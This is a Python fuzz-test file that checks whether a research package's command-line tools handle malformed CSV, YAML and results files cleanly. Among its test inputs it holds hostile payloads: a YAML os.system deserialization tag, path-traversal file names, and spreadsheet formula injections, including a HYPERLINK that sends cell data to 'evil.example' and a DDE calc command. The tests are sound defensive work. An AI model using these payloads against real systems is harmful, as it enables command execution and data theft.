"""Careless-user fuzzing of the three commands and the study-file loader.

Random malformed CSV files (empty, header only, text in numeric columns, NaN and infinities,
duplicate headers or cases, a byte-order mark, GBK, semicolons, values outside [0, 1], constant
columns) and random option values. Whatever comes in, a command either succeeds (exit 0) or
stops with exit status 2 and a one-line message, never a Python traceback; it never changes
its input, and a failed run leaves nothing behind in the output's folder.
"""
from __future__ import annotations

import contextlib
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import digigov.cli
import fsqca.cli
import geodetector.cli
from digigov.errors import StudyError
from digigov.study import load_study

SETTINGS = settings(max_examples=40, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

NAMES = ["A", "B", "C", "Y"]


@st.composite
def csv_bytes(draw):
    """A small, often broken CSV file as bytes."""
    kind = draw(st.sampled_from(["good", "empty", "header", "text", "nan", "inf", "dup_header", "dup_case",
                                 "outside", "constant", "bom", "gbk", "semicolon", "ragged", "blank_header"]))
    n = draw(st.integers(3, 9))
    rows = []
    for i in range(n):
        rows.append([f"c{i}"] + [f"{draw(st.floats(0, 1, allow_nan=False)):.2f}" for _ in NAMES])
    header = ["case", *NAMES]
    sep = ","
    if kind == "empty":
        return b""
    if kind == "header":
        rows = []
    if kind == "text":
        rows[draw(st.integers(0, n - 1))][draw(st.integers(1, 4))] = draw(st.sampled_from(["n.a.", "high", "--"]))
    if kind == "nan":
        rows[0][2] = ""
    if kind == "inf":
        rows[0][1] = "inf"
    if kind == "dup_header":
        header[2] = "A"
    if kind == "dup_case":
        rows[1][0] = rows[0][0]
    if kind == "outside":
        rows[0][1] = "1.5"
    if kind == "constant":
        for r in rows:
            r[2] = "0.7"
    if kind == "semicolon":
        sep = ";"
    if kind == "ragged":
        rows[0] = rows[0] + ["0.1", "0.2"]
    if kind == "blank_header":
        header[3] = ""
    text = "\n".join(sep.join(r) for r in [header, *rows]) + "\n"
    if kind == "bom":
        return "\ufeff".encode() + text.encode()
    if kind == "gbk":
        return text.replace("c0", "北京").encode("gbk")
    return text.encode()


def _run(main, argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse errors
            code = exc.code
    return code, out.getvalue(), err.getvalue()


def _assert_clean(code, err, prog):
    assert code in (0, 2), (code, err)
    assert "Traceback" not in err
    if code == 2:
        lines = [ln for ln in err.strip().splitlines() if ln.strip()]
        assert lines and lines[-1].startswith(f"{prog}: error:") or f"{prog} " in err, err
        assert "np.float64" not in err and "np.str_" not in err, err


@pytest.fixture
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("fuzz")


@SETTINGS
@given(data=csv_bytes(), command=st.sampled_from(["necessity", "truth-table", "minimize", "fit"]),
       outcome=st.sampled_from(["Y", "~Y", "Q", "A"]),
       incl=st.sampled_from(["0.8", "1", "0.9,0.6", "1.5", "-1", "x", "0.6,0.9"]),
       pri=st.sampled_from(["0", "0.5", "2", "nan"]), ncut=st.sampled_from(["1", "0", "-1", "2.5"]),
       extra=st.sampled_from([[], ["--solution", "parsimonious"], ["--solution", "intermediate", "--dir-exp", "A=1"],
                              ["--max-models", "0"], ["--node-limit", "-5"], ["--conditions", "A,A"],
                              ["--conditions", "A,Z"], ["--json"]]))
def test_fsqca_command_never_shows_a_traceback(folder, data, command, outcome, incl, pri, ncut, extra):
    path = folder / "d.csv"
    path.write_bytes(data)
    argv = [command, str(path), "--outcome", outcome]
    if command == "fit":
        argv += ["A*~B + C"]
    elif command != "necessity":
        argv += ["--incl-cut", incl, "--pri-cut", pri, "--n-cut", ncut]
    if command != "minimize" and extra[:1] not in (["--json"], ["--conditions"]):
        extra = []
    code, _, err = _run(fsqca.cli.main, argv + list(extra))
    _assert_clean(code, err, "fsqca")
    assert path.read_bytes() == data


@SETTINGS
@given(data=csv_bytes(), command=st.sampled_from(["factor", "interaction", "risk", "ecological"]),
       tol=st.sampled_from([None, "0", "1e-9", "-1", "x"]), alpha=st.sampled_from([None, "0.05", "1.5", "0", "-1"]))
def test_geodetector_command_never_shows_a_traceback(folder, data, command, tol, alpha):
    path = folder / "g.csv"
    path.write_bytes(data.replace(b"case", b"y", 1) if data else data)
    before = path.read_bytes()
    argv = [command, str(path), "--y", "Y", "--x", "A,B"]
    if tol is not None and command == "interaction":
        argv += ["--tol", tol]
    if alpha is not None and command in ("risk", "ecological"):
        argv += ["--alpha", alpha]
    code, _, err = _run(geodetector.cli.main, argv)
    _assert_clean(code, err, "geodetector")
    assert path.read_bytes() == before


STUDY_PIECES = st.lists(st.sampled_from([
    "data: {example: true}\n", "data: {file: nothere.csv}\n", "data: [1, 2]\n",
    "outcome: P\n", "outcome: Q\n", "outcome: [P]\n",
    "conditions: [G, T]\n", "conditions: [G, G]\n", "conditions: []\n", "conditions: G\n",
    "truth_table: {incl_cut: 1.5}\n", "truth_table: {incl: 0.8}\n", "truth_table: {n_cut: -1}\n",
    "minimize: {max_models: 0}\n", "geodetector: {k: 0}\n", "geodetector: {method: magic}\n",
    "report: {language: fr}\n", "calibration: {anchors: {inclusion: p200}}\n", "a: b: c\n", "\t- x\n",
    "outcome: P\noutcome: P\n", "{", "- - -\n", "",
]), min_size=0, max_size=6)


@SETTINGS
@given(pieces=STUDY_PIECES)
def test_study_loader_gives_one_line_errors(pieces):
    text = "".join(pieces)
    try:
        load_study(text=text)
    except StudyError as exc:
        assert "\n" not in str(exc).strip()
        assert "Traceback" not in str(exc)


@SETTINGS
@given(pieces=STUDY_PIECES)
def test_digigov_run_fails_cleanly_and_leaves_nothing(tmp_path_factory, pieces):
    folder = tmp_path_factory.mktemp("study")
    path = folder / "s.yaml"
    text = "".join(pieces)
    path.write_text(text, encoding="utf-8")
    code, _, err = _run(digigov.cli.main, ["run", str(path), "--out", str(folder / "out"), "--quiet",
                                           "--no-figures", "--no-report"])
    assert code in (0, 2), err
    assert "Traceback" not in err
    assert path.read_text(encoding="utf-8") == text
    if code == 2:
        assert sorted(p.name for p in folder.iterdir()) == ["s.yaml"]


def test_a_results_file_is_never_overwritten_by_compare(tmp_path):
    import shutil
    from pathlib import Path

    fixture = Path(__file__).parent / "fixtures" / "results_synthetic.json"
    (tmp_path / "res").mkdir()
    shutil.copy(fixture, tmp_path / "res" / "results.json")
    (tmp_path / "res" / "manifest.json").write_text('{"schema": "digigov-study-results/1"}', encoding="utf-8")
    before = (tmp_path / "res" / "results.json").read_bytes()
    code, _, err = _run(digigov.cli.main, ["compare", "浙江", "--results", str(tmp_path / "res"),
                                           "--output", str(tmp_path / "res" / "results.json")])
    assert code == 2 and "overwrite its input 'results.json'" in err and "never overwritten" in err
    assert (tmp_path / "res" / "results.json").read_bytes() == before
    code, _, err = _run(digigov.cli.main, ["compare", "浙江", "Zhejiang", "--results", str(tmp_path / "res")])
    assert code == 2 and "a second time" in err
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    code, _, err = _run(digigov.cli.main, ["compare", "浙江", "--results", str(tmp_path / "res"),
                                           "--output", str(blocker / "x.html")])
    assert code == 2 and "is a file, not a folder" in err


# ---- commands and options added since: diagnostics, NCA, panel, exports, report, compare -------------
NEW_SETTINGS = settings(max_examples=15, deadline=None, derandomize=True,
                        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

def _files(root):
    return {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}


def _assert_only_outputs_written(before, after, allowed=()):
    """No input changed, and nothing new except the ``allowed`` outputs."""
    for p, body in before.items():
        assert after.get(p) == body, f"{p.name} changed"
    new = {p for p in after if p not in before}
    assert new <= set(allowed), sorted(str(p) for p in new - set(allowed))


def _no_formula_cells(path):
    import openpyxl

    from libdigigov.safety import is_formula_like

    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not is_formula_like(cell.value), (ws.title, cell.value)


@NEW_SETTINGS
@given(data=csv_bytes(), command=st.sampled_from(["find-rows", "model-fit", "cluster", "robustness-ranges", "nca"]),
       option=st.sampled_from([[], ["--json"], ["--plot", "PLOT.png"], ["--plot", "PLOT.txt"], ["--plot", "PLOT"],
                               ["--type", "2"], ["--type", "x"], ["--necessity"], ["--step", "0"],
                               ["--step", "nan"], ["--max-runs", "0"], ["--anchors", "A=1,2,3"],
                               ["--raw", "RAW", "--anchors", "A=0.1,0.5,0.9"], ["--raw", "RAW", "--anchors", "A=1,2"],
                               ["--ceilings", "magic"], ["--steps", "0"], ["--conditions", "A,Q"]]))
def test_diagnostics_and_nca_commands_never_show_a_traceback(folder, data, command, option):
    work = folder / "work"
    work.mkdir(exist_ok=True)
    for p in work.iterdir():
        p.unlink()
    path = work / "d.csv"
    path.write_bytes(data)
    raw = work / "raw.csv"
    raw.write_bytes(data.replace(b"0.", b"1", 3))
    argv = {"find-rows": ["find-rows", str(path), "--outcome", "Y", "--incl-cut", "0.8", "--expression", "~A"],
            "model-fit": ["model-fit", str(path), "--outcome", "Y", "--model", "A*B + C", "--theory", "A*~C"],
            "cluster": ["cluster", str(path), "--outcome", "Y", "--expression", "A*B", "--unit", "case",
                        "--cluster", "C"],
            "robustness-ranges": ["robustness-ranges", str(path), "--outcome", "Y", "--incl-cut", "0.8"],
            "nca": ["nca", str(path), "--outcome", "Y"]}[command]
    option = [str(work / o) if o.startswith("PLOT") else str(raw) if o == "RAW" else o for o in option]
    before = _files(folder)
    code, _, err = _run(fsqca.cli.main, argv + option)
    if code == 2 and err.startswith("usage:"):            # an option this command does not have
        return
    _assert_clean(code, err, "fsqca")
    plot = [work / "PLOT.png"] if "--plot" in option and code == 0 else []
    _assert_only_outputs_written(before, _files(folder), plot)


STUDY_PIECES_NEW = st.lists(st.sampled_from([
    "data: {example: true}\n", "outcome: P\n", "conditions: [G, T, Sp]\n",
    "panel: {}\n", "panel: {unit: nothere}\n", "panel: {calibration: per_period}\n", "panel: []\n",
    "nca: {test_rep: 0}\n", "nca: {ceilings: []}\n", "nca: {conditions: [Q]}\n", "nca: {steps: 0}\n",
    "diagnostics: {depth: 0}\n", "diagnostics: {incl_cut: 2}\n",
    "x: &a [1, 2]\ny: [*a, *a]\n", "outcome: !!python/object/apply:os.system ['true']\n",
    "composites: {'../../evil': {method: mean, columns: [G, T]}}\n",
    "data: {file: /dev/zero}\n", "data: {file: ../../../../etc/hostname, case_column: x}\n",
]), min_size=1, max_size=6)


@NEW_SETTINGS
@given(pieces=STUDY_PIECES_NEW)
def test_new_study_sections_fail_cleanly_and_write_only_the_output(tmp_path_factory, pieces):
    folder = tmp_path_factory.mktemp("study")
    path = folder / "s.yaml"
    text = "".join(pieces)
    path.write_text(text, encoding="utf-8")
    before = _files(folder.parent)
    code, _, err = _run(digigov.cli.main, ["run", str(path), "--out", str(folder / "out"), "--quiet",
                                           "--no-figures", "--no-report"])
    assert code in (0, 2), err
    assert "Traceback" not in err and len(err) < 2000
    after = _files(folder.parent)
    out = [p for p in after if p.is_relative_to(folder / "out")]
    _assert_only_outputs_written(before, after, out)
    if code == 2:
        assert not out


def _results_fixture(tmp_path):
    import shutil
    from pathlib import Path

    fixture = Path(__file__).parent / "fixtures" / "results_synthetic.json"
    res = tmp_path / "res"
    (res / "tables").mkdir(parents=True)
    shutil.copy(fixture, res / "results.json")
    (res / "manifest.json").write_text('{"schema": "digigov-study-results/1"}', encoding="utf-8")
    (res / "tables" / "necessity.csv").write_text(
        'condition,inclN\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",0.9\n"=cmd|\' /C calc\'!A0",0.8\n')
    return res


MUTATIONS = {
    "none": lambda d: None,
    "nan": lambda d: d["solution_fit"].update(inclS=float("nan")),
    "negative_n": lambda d: d["truth_table"]["rows"][0].update(n=-1),
    "string_membership": lambda d: next(iter(d["memberships"].values())).update(P="high"),
    "tables_outside": lambda d: d.setdefault("files", {}).update(tables=["../../outside.csv", "/etc/hosts.csv"]),
    "no_study": lambda d: d.pop("study"),
    "schema": lambda d: d.update(schema_version=7),
    "formula_title": lambda d: d["study"].update(title="=cmd|' /C calc'!A0"),
}


@settings(max_examples=16, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(mutation=st.sampled_from(sorted(MUTATIONS)), command=st.sampled_from(["export", "export-docx", "compare"]),
       target=st.sampled_from(["default", "inside", "outside", "report"]))
def test_exports_and_compare_on_changed_results(tmp_path_factory, mutation, command, target):
    import json

    tmp = tmp_path_factory.mktemp("res")
    res = _results_fixture(tmp)
    (tmp / "outside.csv").write_text("secret,1\n")
    data = json.loads((res / "results.json").read_text(encoding="utf-8"))
    MUTATIONS[mutation](data)
    (res / "results.json").write_text(json.dumps(data, allow_nan=True, ensure_ascii=False), encoding="utf-8")
    suffix = {"export": ".xlsx", "export-docx": ".docx", "compare": ".html"}[command]
    out = {"default": None, "inside": res / f"mine{suffix}", "outside": tmp / f"mine{suffix}",
           "report": res / "report.html"}[target]
    (res / "report.html").write_text("<html>the study's report</html>")
    argv = (["export", str(res)] + (["--format", suffix[1:]] if out is None else ["--out", str(out)])
            if command != "compare" else ["compare", "浙江", "--results", str(res)] + ([] if out is None else
                                                                                      ["--output", str(out)]))
    before = _files(tmp)
    code, _, err = _run(digigov.cli.main, argv)
    _assert_clean(code, err, "digigov")
    written = out if out is not None else res / ("comparison.html" if command == "compare" else f"tables{suffix}")
    assert (res / "report.html").read_text() == "<html>the study's report</html>"     # never replaced
    _assert_only_outputs_written({p: b for p, b in before.items() if p != written}, _files(tmp), [written])
    if code == 0 and suffix == ".xlsx":
        _no_formula_cells(written)
    if mutation in ("nan", "negative_n", "string_membership", "tables_outside", "schema"):
        assert code == 2
